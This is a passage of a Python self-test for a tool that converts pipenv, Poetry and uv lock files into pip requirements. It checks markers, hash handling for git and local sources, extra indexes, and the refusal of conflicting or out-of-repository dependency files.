        # ... which do not turn hash checking off for the others: they come last, after
        # `# without hashes:`, for pip's second run, and the extra index is the first run's.
        check(hashes.startswith("# hashes: split: 4 with hashes; 2 without: locallib is the "
                                "directory libs/locallib") and "mylib comes from git" in hashes,
              "Pipfile.lock with git: hashes split, saying why", hashes)
        first, _, second = text.partition("\n# without hashes:\n")
        check("--hash=%s" % H3 in first and "flask==3.1.3" in first and "--hash" not in second
              and "mylib @ git+" in second and "locallib @ file://" in second
              and "mylib" not in first.replace("mylib comes from git", "")
              and "--extra-index-url https://pkgs.example.com/simple" in first
              and "--extra-index-url" not in second,
              "Pipfile.lock with git: hashed first (with the index), unhashed after", text)
        check(re.search(r"^# local libs/locallib sha256:[0-9a-f]{64}$", text, re.M) is not None,
              "a local directory's content is in the output", text)
        lock["default"]["outside"] = {"path": "../elsewhere"}
        msg = refusal({"Pipfile.lock": lock, "libs/locallib/setup.py": ""})
        check("outside comes from ../elsewhere, outside the app's repository" in msg,
              "a path outside the app is refused", msg)

        # poetry.lock 2.1: groups, markers (text and per group), optional extras, sources.
        heads, hashes, text = reqs({"poetry.lock": POETRY2_LOCK % {"more": ""},
                                    "pyproject.toml": "[project]\nname = 'x'\n"})
        check(heads == ["blinker @ https://files.example.com/blinker-1.9.0-py3-none-any.whl",
                        'colorama==0.4.6 ; platform_system == "Windows"', "flask==3.1.3",
                        'pywin32==311 ; sys_platform == "win32"'],
              "poetry.lock 2.1's requirements", "\n".join(heads))
        check(hashes == "# hashes: on" and "--hash=%s" % H2 in text, "poetry.lock 2.1 hashed",
              text)
        heads, hashes, text = reqs({"poetry.lock": POETRY2_LOCK % {"more": POETRY2_SOURCES},
                                    "pyproject.toml": "[project]\nname = 'x'\n",
                                    "libs/locallib/pyproject.toml": "",
                                    "dist/wheelfile-1.0-py3-none-any.whl": "zip"})
        check("mylib @ git+https://github.com/example/mylib.git@0123456789abcdef0123456789abcdef"
              "01234567#subdirectory=python" in heads, "poetry git", "\n".join(heads))
        check("locallib @ file://APP/libs/locallib" in text and
              "wheelfile @ file://APP/dist/wheelfile-1.0-py3-none-any.whl" in text,
              "poetry directory and file", text)
        check(hashes.startswith("# hashes: split: 5 with hashes; 2 without: locallib is the "
                                "directory") and text.count("# without hashes:") == 1,
              "poetry with a directory: hashes split", hashes)
        msg = refusal({"poetry.lock": POETRY2_LOCK % {"more": POETRY2_SOURCES},
                       "pyproject.toml": "[project]\nname = 'x'\n",
                       "dist/wheelfile-1.0-py3-none-any.whl": "zip"})
        check("locallib comes from libs/locallib, which is not in the app's repository" in msg,
              "a missing path is refused, naming the package", msg)

        # poetry.lock 1.1: markers from pyproject.toml and the edges.
        heads, hashes, text = reqs({"poetry.lock": POETRY1_LOCK, "pyproject.toml": POETRY1_PYPROJECT})
        want = [
            'click==8.1.8 ; python_full_version < "3.10"',
            'click==8.5.1 ; python_full_version >= "3.10"',
            'colorama==0.4.6 ; platform_system == "Windows" and python_full_version < "3.10"',
            'django==4.2.30 ; python_full_version < "3.10"',
            'django==5.2.19 ; python_full_version >= "3.10"',
            "flask==3.1.3",
            'gunicorn==27.0.1 ; sys_platform == "linux"',
            "h11==0.16.0",
            'importlib-metadata==8.7.1 ; python_version < "3.10"',
            "pywin32==311 ; sys_platform == 'win32'",
            "uvicorn==0.30.0",
            'uvloop==0.23.0 ; (sys_platform != "win32" and sys_platform != "cygwin") and '
            'platform_python_implementation != "PyPy"',
            "watchfiles==1.3.0",
            'zipp==3.23.1 ; python_version < "3.10"',
        ]
        # sqlparse: two versions that both django's allow; each Python gets the newest its
        # python-versions allows, as poetry's resolver picked.
        sqlparse = [h for h in heads if h.startswith("sqlparse")]
        check(len(sqlparse) == 2 and 'python_version < "3.10"' in sqlparse[0]
              and sqlparse[0].startswith("sqlparse==0.5.5")
              and 'python_version >= "3.10"' in sqlparse[1]
              and 'python_version < "3.10"' not in sqlparse[1],
              "poetry.lock 1.1: a version per Python when no edge decides", "\n".join(sqlparse))
        heads = [h for h in heads if not h.startswith("sqlparse")]
        check(heads == want, "poetry.lock 1.1's requirements",
              "got:\n" + "\n".join(heads) + "\nwant:\n" + "\n".join(want))
        check(hashes == "# hashes: on" and "--hash=%s" % H3 in text,
              "poetry.lock 1.1's hashes from [metadata.files]", text)

        # uv.lock: the graph from the project, each version with its marker, extras followed,
        # dependency groups and the project's own extras left out.
        base = UV_LOCK % {"h1": H1, "h2": H2, "h3": H3, "root_more": "", "more": ""}
        heads, hashes, text = reqs({"uv.lock": base})
        want = [
            "click==8.1.8 ; python_full_version < '3.10'",
            "click==8.5.1 ; python_full_version >= '3.10'",
            "colorama==0.4.6 ; python_full_version < '3.10' and sys_platform == 'win32'",
            "h11==0.16.0",
            "pywin32==311 ; sys_platform == 'win32'",
            "uvicorn==0.30.0",
            "uvloop==0.23.0 ; platform_python_implementation != 'PyPy' and sys_platform != "
            "'win32'",
        ]
        check(heads == want, "uv.lock's requirements",
              "got:\n" + "\n".join(heads) + "\nwant:\n" + "\n".join(want))
        check(hashes == "# hashes: on" and text.count("--hash=") == 8, "uv.lock hashed", text)
        more = UV_SOURCES % {"h2": H2, "h3": H3}
        root_more = ('{ name = "mylib" }, { name = "member" }, { name = "archived", '
                     'marker = "sys_platform == \'linux\'" },')
        heads, hashes, text = reqs({
            "uv.lock": UV_LOCK % {"h1": H1, "h2": H2, "h3": H3, "root_more": root_more,
                                  "more": more},
            "packages/member/pyproject.toml": ""})
        check("mylib @ git+https://github.com/example/mylib@0123456789abcdef0123456789abcdef"
              "01234567#subdirectory=python" in heads, "uv git", "\n".join(heads))
        check("archived @ https://files.example.com/archived-2.0.tar.gz ; sys_platform == "
              "'linux'" in heads, "uv url", "\n".join(heads))
        check("member @ file://APP/packages/member" in text and "internal==1.0" in heads and
              "--extra-index-url https://pkgs.example.com/simple" in text,
              "uv workspace member and its other index", text)
        check(hashes.startswith("# hashes: split: 9 with hashes; 2 without: member is the "
                                "directory packages/member"), "uv with git: hashes split", hashes)
        first, _, second = text.partition("\n# without hashes:\n")
        check("internal==1.0" in first and "--extra-index-url" in first and "member @" in second
              and "mylib @" in second and "--hash" not in second and "--" not in second,
              "uv: the private index's package hashed, the git and directory ones after", text)
        # Only unhashable packages: one run, without hashes, and no second part.
        lock = {"default": {"mylib": {"git": "https://github.com/example/mylib.git",
                                      "ref": "0123456789abcdef0123456789abcdef01234567"}}}
        heads, hashes, text = reqs({"Pipfile.lock": lock})
        check(hashes.startswith("# hashes: off: mylib comes from git") and
              "# without hashes:" not in text, "only unhashable: hashes off", text)

        # Several tools' files: refused, naming them, as Heroku does.
        msg = refusal({"requirements.txt": "flask\n", "uv.lock": base})
        check("Multiple Python package manager files were found: requirements.txt (pip), "
              "uv.lock (uv)." in msg, "several package managers refused", msg)
        msg = refusal({"Pipfile.lock": PIPFILE_LOCK, "poetry.lock": POETRY1_LOCK})
        check("Pipfile.lock (pipenv), poetry.lock (Poetry)" in msg,
              "Pipfile.lock and poetry.lock refused", msg)
        msg = refusal({"Pipfile": "[packages]\n", "requirements.txt": "flask\n"})
        check("Pipfile without Pipfile.lock" in msg, "a Pipfile needs its lock", msg)
        msg = refusal({"pyproject.toml": "[tool.poetry]\nname = 'x'\n"})
        check("there is no poetry.lock" in msg, "poetry without its lock", msg)

        # requirements.txt as it is; pyproject.toml's dependencies as they are.
        d = app({"requirements.txt": "flask==3.1.3\ngunicorn"})
        check(requirements(d) == "# from requirements.txt\nflask==3.1.3\ngunicorn\n",
              "requirements.txt as it is")
        d = app({"requirements.txt": "flask==3.1.3 \\\n    --hash=%s\n" % H1})
        check(requirements(d).startswith("# from requirements.txt\n# hashes: on\nflask"),
              "requirements.txt with hashes: pip checks them")
        d = app({"pyproject.toml": '[project]\ndependencies = ["gunicorn (>=21)"]\n'})
        check(requirements(d) == "# from pyproject.toml\ngunicorn (>=21)\n",
              "pyproject.toml's dependencies as they are")

        hostile(check, reqs, refusal, app, tmp)
    finally:
        shutil.rmtree(tmp)
    if PipRequirement is None:
        print("(pip is not importable: requirement lines were not parsed as pip parses them)")
    print("requirements self-test: %d passed, %d failed" % (passed, failed))
    return 0 if failed == 0 else 1
